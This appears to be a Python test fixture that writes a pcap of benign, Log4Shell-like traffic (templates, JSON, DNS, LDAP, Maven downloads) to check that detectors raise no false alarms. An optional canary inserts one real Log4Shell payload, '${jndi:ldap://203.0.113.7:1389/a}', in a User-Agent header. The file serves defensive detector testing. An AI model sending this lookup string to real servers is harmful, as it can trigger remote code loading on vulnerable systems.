"""A large benign capture, written fast with struct: traffic that looks like Log4Shell bait but
is not (shell scripts and templates full of `${...}`, JSON with `$` and braces, `%24` prices,
`\\u00e9` escapes, binaries containing `jndi`, DNS, LDAP directory lookups, and Java fetching
jars from a Maven repository). The detectors must raise nothing on it."""

from __future__ import annotations

import random
import struct
from pathlib import Path

from tests.detect import wire

_PCAP_HEADER = struct.Struct("<IHHiIII").pack(0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
_RECORD = struct.Struct("<IIII")
_ETHER = bytes.fromhex("0242ac1100020242ac1100010800")
_IP4 = struct.Struct("!BBHHHBBH4s4s")
_TCP = struct.Struct("!HHIIBBHHH")
_UDP = struct.Struct("!HHHH")
SYN, FIN, ACK, PSH = 0x02, 0x01, 0x10, 0x08
MSS = 1448

SHELL = (b'#!/bin/sh\nset -eu\nexport PATH="${HOME}/bin:${PATH}"\nfor f in "${@}"; do\n'
         b'  echo "${f%%.*} -> ${OUT_DIR:-/tmp}/${f##*/}"\ndone\n') * 6
TEMPLATE = (b"<p>Dear ${user.name},</p><p>Order ${order.id} of ${date} costs $${total}.</p>"
            b"{{#items}}<li>${name}: {{price}}</li>{{/items}}") * 5
JSON = (b'{"price":"$","sym":{"usd":"$","eur":"\\u20ac"},"name":"Caf\\u00e9",'
        b'"tpl":"${a}","nested":{"x":{},"y":[{"$ref":"#/d"}]}}')
QUERIES = ("/search?q=%2410+off&sort=price", "/api/v1/items?filter=%7B%22a%22%3A1%7D",
           "/static/app.js", "/index.html?user=${user}", "/docs/jndi-naming.html")
NAMES = ("api.internal.example", "repo1.maven.org", "jndi.example.com", "kubernetes.default.svc",
         "cache-7f9c.redis.svc.cluster.local")


class _Writer:
    """Appends Ethernet/IPv4 frames to a pcap image in memory and counts them."""

    def __init__(self) -> None:
        self.out = bytearray(_PCAP_HEADER)
        self.count = 0
        self.ts_us = 1_639_350_000 * 1_000_000
        self.ip_id = 0

    def frame(self, src: bytes, dst: bytes, proto: int, transport: bytes) -> None:
        self.ts_us += 50
        self.ip_id = (self.ip_id + 1) & 0xFFFF
        ip = _IP4.pack(0x45, 0, 20 + len(transport), self.ip_id, 0x4000, 64, proto, 0, src, dst)
        n = 14 + 20 + len(transport)
        self.out += _RECORD.pack(self.ts_us // 1_000_000, self.ts_us % 1_000_000, n, n)
        self.out += _ETHER + ip + transport
        self.count += 1

    def tcp(self, client: bytes, server: bytes, sport: int, dport: int,
            exchanges: list[tuple[bool, bytes]]) -> None:
        """A whole conversation: handshake, segments each acknowledged, FIN from both sides."""
        seq = {True: 1000, False: 9000}
        ends = {True: (client, server, sport, dport), False: (server, client, dport, sport)}

        def seg(from_client: bool, flags: int, data: bytes = b"") -> None:
            src, dst, sp, dp = ends[from_client]
            hdr = _TCP.pack(sp, dp, seq[from_client], seq[not from_client], 0x50, flags, 65535, 0,
                            0)
            self.frame(src, dst, 6, hdr + data)

        seq[True] -= 1
        seg(True, SYN)
        seq[True] += 1
        seq[False] -= 1
        seg(False, SYN | ACK)
        seq[False] += 1
        seg(True, ACK)
        for from_client, data in exchanges:
            for i in range(0, len(data), MSS):
                part = data[i:i + MSS]
                seg(from_client, PSH | ACK, part)
                seq[from_client] += len(part)
                seg(not from_client, ACK)
        seg(True, FIN | ACK)
        seq[True] += 1
        seg(False, FIN | ACK)
        seq[False] += 1
        seg(True, ACK)

    def udp(self, client: bytes, server: bytes, sport: int, dport: int,
            exchanges: list[tuple[bool, bytes]]) -> None:
        for from_client, data in exchanges:
            src, dst, sp, dp = (client, server, sport, dport) if from_client else (
                server, client, dport, sport)
            self.frame(src, dst, 17, _UDP.pack(sp, dp, 8 + len(data), 0) + data)


def _dns(trans_id: int, name: str, answer: bytes | None) -> bytes:
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    if answer is None:
        return struct.pack("!HHHHHH", trans_id, 0x0100, 1, 0, 0, 0) + qname + b"\x00\x01\x00\x01"
    return (struct.pack("!HHHHHH", trans_id, 0x8180, 1, 1, 0, 0) + qname + b"\x00\x01\x00\x01"
            + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + answer)


def _conversation(w: _Writer, rng: random.Random, n: int) -> None:
    client = bytes((10, 244, rng.randrange(256), rng.randrange(1, 255)))
    server = bytes((10, 96, rng.randrange(256), rng.randrange(1, 255)))
    sport = 32768 + n % 28000
    kind = n % 8
    if kind == 0:
        w.tcp(client, server, sport, 80, [(True, wire.http_get("/install.sh", "get.example",
                                                               "curl/8.5.0")),
                                          (False, wire.http_ok(SHELL, "text/x-shellscript"))])
    elif kind == 1:
        w.tcp(client, server, sport, 8080, [(True, wire.http_get(rng.choice(QUERIES), "web",
                                                                 "Mozilla/5.0")),
                                            (False, wire.http_ok(TEMPLATE, "text/html"))])
    elif kind == 2:
        body = JSON * rng.randrange(1, 8)
        req = (b"POST /api/orders HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n"
               b"Content-Length: %d\r\n\r\n" % len(body)) + body
        w.tcp(client, server, sport, 8080, [(True, req),
                                            (False, wire.http_ok(JSON, "application/json"))])
    elif kind == 3:
        blob = bytearray(rng.randbytes(rng.randrange(2000, 12000)))
        at = rng.randrange(len(blob) - 40)
        blob[at:at + 24] = b"jndi${\x00jndi:ldap\x01}jndi%24"
        w.tcp(client, server, sport, 80, [(True, wire.http_get("/blob.bin", "files", "Go-http")),
                                          (False, wire.http_ok(bytes(blob),
                                                               "application/octet-stream"))])
    elif kind == 4:
        name = rng.choice(NAMES)
        w.udp(client, server, sport, 53, [(True, _dns(n & 0xFFFF, name, None)),
                                          (False, _dns(n & 0xFFFF, name, server))])
    elif kind == 5:
        jar = b"PK\x03\x04\x14\x00\x08\x08" + rng.randbytes(rng.randrange(3000, 9000))
        uri = f"/maven2/org/slf4j/slf4j-api/2.0.{n % 13}/slf4j-api-2.0.{n % 13}.jar"
        w.tcp(client, bytes((151, 101, 0, 209)), sport, 80, [
            (True, wire.http_get(uri, "repo1.maven.org", "Java/17.0.9")),
            (False, wire.http_ok(jar, "application/java-archive"))])
    elif kind == 6:
        entry = wire.search_entry([(b"objectClass", [b"person", b"top"]), (b"cn", [b"jndi"]),
                                   (b"description", [b"${not.a.lookup}"])], dn=b"cn=jndi,dc=x")
        w.tcp(client, server, sport, 389, [
            (True, wire.bind_request()), (False, wire.bind_response()),
            (True, wire.search_request(b"dc=x")), (False, entry + wire.search_done())])
    else:
        headers = (f"GET {rng.choice(QUERIES)} HTTP/1.1\r\nHost: web\r\nCookie: tpl=${{x}}; "
                   "price=%2410\r\nX-Note: jndi docs\r\nReferer: http://web/${page}\r\n\r\n")
        w.tcp(client, server, sport, 8080, [(True, headers.encode()),
                                            (False, wire.http_ok(b"{}", "application/json"))])


def write_corpus(path: Path, min_packets: int = 100_000, seed: int = 44228,
                 canary: bool = False) -> int:
    """Write the benign corpus to path (a pcap); returns the number of packets written.

    canary hides one real attempt (a lookup in a User-Agent) halfway, to show the corpus is
    really inspected.
    """
    rng = random.Random(seed)
    w = _Writer()
    n = 0
    while w.count < min_packets:
        _conversation(w, rng, n)
        n += 1
        if canary and w.count >= min_packets // 2:
            canary = False
            w.tcp(bytes((203, 0, 113, 7)), bytes((10, 96, 0, 5)), 40000, 8080, [
                (True, wire.http_get("/", "web", "${jndi:ldap://203.0.113.7:1389/a}")),
                (False, wire.http_ok(b"{}", "application/json"))])
    Path(path).write_bytes(w.out)
    return w.count
